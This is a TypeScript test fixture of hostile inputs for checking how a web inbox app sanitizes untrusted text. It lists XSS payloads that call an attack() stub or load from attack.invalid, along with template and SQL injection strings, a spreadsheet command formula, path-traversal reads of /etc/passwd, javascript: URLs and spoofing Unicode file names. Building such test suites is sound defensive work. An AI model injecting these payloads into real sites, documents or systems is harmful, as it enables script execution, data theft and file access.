/**
 * What a stranger may write. Each string of ours calls `attack()` where it would run, and asks `attack.invalid` or
 * `/attack/` for something where it would load.
 */

const MARKUP = [
  '<script>attack()</script>',
  '<ScRiPt src=https://attack.invalid/script.js></sCrIpT>',
  '<img src=/attack/image onerror=attack()>',
  '<IMG SRC="https://attack.invalid/beacon.gif?from=bubble">',
  '<svg onload=attack()><circle r=9></svg>',
  '<svg><animate onbegin=attack() attributeName=x dur=1s></svg>',
  '<svg><foreignObject><iframe src="javascript:parent.attack()"></iframe></foreignObject></svg>',
  '<svg><use href="https://attack.invalid/use.svg#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=/attack/math onerror=attack()></style></mglyph></table></mtext></math>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<iframe src="https://attack.invalid/frame"></iframe>',
  '<object data="https://attack.invalid/object"></object><embed src="https://attack.invalid/embed">',
  '<link rel=stylesheet href="https://attack.invalid/sheet.css"><style>@import "https://attack.invalid/import.css"</style>',
  '<base href="https://attack.invalid/"><meta http-equiv=refresh content="0;url=https://attack.invalid/refresh">',
  '<form action="https://attack.invalid/form"><input name=who autofocus onfocus=attack()><button formaction="javascript:attack()">Go</button></form>',
  '<details open ontoggle=attack()><summary>More</summary></details>',
  '<video src=/attack/video onerror=attack()></video><audio src="https://attack.invalid/sound" autoplay></audio>',
  '<input onfocus=attack() autofocus><textarea onfocus=attack() autofocus></textarea><select onfocus=attack() autofocus></select>',
  '<div style="background:url(https://attack.invalid/css)" onmouseover=attack() onclick=attack() tabindex=0>Hover</div>',
  '<a href="javascript:attack()">Click</a><a href="data:text/html,<script>opener.attack()</script>">Or here</a>',
  '<x onclick=attack() contenteditable onblur=attack() onfocus=attack() id=x tabindex=1>Press Tab</x>',
  '<template shadowrootmode=open><img src=/attack/shadow onerror=attack()></template>',
  '<inbox-list></inbox-list><inbox-notices inbox="x"></inbox-notices>',
] as const

/** Ways out of a text field, an attribute, a comment, a style or a template that were not escaped. */
const ESCAPES = [
  '</textarea><script>attack()</script>', '</title></style></script><img src=/attack/title onerror=attack()>',
  '--><img src=/attack/comment onerror=attack()><!--', ']]><img src=/attack/cdata onerror=attack()>',
  '" onmouseover="attack()" autofocus onfocus="attack()" x="', "' onmouseover='attack()' autofocus onfocus='attack()' x='",
  '` onmouseover=attack() `', '"/><svg/onload=attack()>', '</bdi></span></button><img src=/attack/button onerror=attack()>',
  '<img src=x:x onerror="attack()" alt="', '\\"><script>attack()</script>', '&lt;img src=/attack/entity onerror=attack()&gt;', '&#60;script&#62;attack()&#60;/script&#62;',
  '\u003cimg src=/attack/escape onerror=attack()\u003e', '%3Cscript%3Eattack()%3C/script%3E', '＜script＞attack()＜/script＞',
] as const

/** Words that mean something to a template, a selector, a style sheet, a program. */
const MEANINGS = [
  '${attack()}', '{{attack()}}', '{{constructor.constructor("attack()")()}}', '#{attack()}', '<%= attack() %>', '{{contact.name}}',
  '<!--?lit$0123456789$-->', '?lit$0123456789$', 'lit$0', '<?lit$0$?>',
  '__proto__', 'constructor', 'hasOwnProperty', 'toString', 'null', 'undefined', '[object Object]', 'NaN', '-1',
  '"] , * , [x="', '#x > .y:not(*)', '\\0', '*', ' ', '}*{background:url(https://attack.invalid/css)}', 'red;background:url(//attack.invalid/css)',
  '=cmd|"/c calc"!A1', "'; DROP TABLE messages; --", '../../../etc/passwd', 'C:\\con\\con', '%s%n%x', '\\u003cscript\\u003e',
] as const

/** Marks that turn a text around, hide in it, or are no characters at all. */
const MARKS = [
  'invoice\u202efdp.exe', '\u2066\u2067\u2068never closed', '\u202eall of it backwards', 'zero\u200bwidth\u200d\ufeff\u2060marks',
  'a\u0000b\u0007c\u001b[31md', '\ud800 alone', 'alone \udfff', 'a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308'.repeat(8),
  '\u{e0041}\u{e0042}tags', '\ufff9annotated\ufffa\ufffb', 'line\u2028separator\u2029paragraph', '👩‍👩‍👧‍👦🏴‍☠️🇺🇳\u{1f1e6}', '\u115f\u3164blank',
] as const

/** Addresses that must become no link, and links that must stay what they are. */
const ADDRESSES = [
  'javascript:attack()', 'JaVaScRiPt:attack()//https://larkspur.example', ' javascript:attack()', 'java\tscript:attack()', 'vbscript:attack()',
  'data:text/html,<script>attack()</script>', 'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==', 'blob:https://attack.invalid/1', 'file:///etc/passwd',
  'view-source:https://attack.invalid', 'https://larkspur.example@attack.invalid/', 'https://attack.invalid/"onmouseover="attack()"x="',
  "https://attack.invalid/'onclick='attack()", 'https://attack.invalid/<img/src=/attack/link/onerror=attack()>', 'https://attack.invalid/\u202e/moc.rupskral',
  'mailto:a@attack.invalid?body=<script>attack()</script>', 'tel:*21*+15550100#', 'www.attack.invalid/&quot;onclick=&quot;attack()', '//attack.invalid/schemeless',
  '[click](javascript:attack())', '![x](https://attack.invalid/markdown.gif)', '<https://attack.invalid/angle>', 'a@b.c"onclick="attack()"@attack.invalid',
] as const

/** Every string that we wrote. */
export const OURS: readonly string[] = [...MARKUP, ...ESCAPES, ...MEANINGS, ...MARKS, ...ADDRESSES]

/** Those that run or load something wherever they are written as HTML, and leave the page where it is. */
export const HARMFUL: readonly string[] =
  [...MARKUP.slice(0, -1), ...ESCAPES.slice(0, 4)].filter(text => !text.includes('http-equiv'))

export const FILE_NAMES = [
  'photo\u202egpj.exe', 'invoice.pdf.exe', '\u200einvoice.pdf', '../../../etc/passwd', '..\\..\\boot.ini', 'drawing.svg', 'page.html', '.htaccess',
  'a.txt\u0000.exe', '<img src=/attack/file onerror=attack()>.png', '"onerror="attack()".png', `${'long'.repeat(400)}.jpg`, ' . . ', '', 'CON',
] as const

interface Shared {
  readonly payload: string
}

const load = async <T>(path: string): Promise<readonly T[] | undefined> => {
  const response = await fetch(`/shared-data/${path}`)
  return response.ok ? await response.json() as readonly T[] : undefined
}

/** The strings of others that lie beside the project, where they do. */
export const sharedStrings = async (): Promise<readonly string[] | undefined> => {
  const files = await Promise.all(['xss/dompurify-expect.json', 'xss/owasp-filter-evasion.json'].map(path => load<Shared>(path)))
  return files.includes(undefined) ? undefined : files.flatMap(file => file!.map(one => one.payload)).filter(text => text.trim() !== '')
}

/** A test with our strings, and one with those of others, which is skipped where they are absent. */
export const withStrings = (title: string, run: (texts: readonly string[]) => Promise<void>): void => {
  it(`${title}: strings of ours`, () => run(OURS)).timeout(60_000)
  it(`${title}: strings of others`, async function () {
    const texts = await sharedStrings()
    if (texts) await run(texts)
    else this.skip()
  }).timeout(60_000)
}
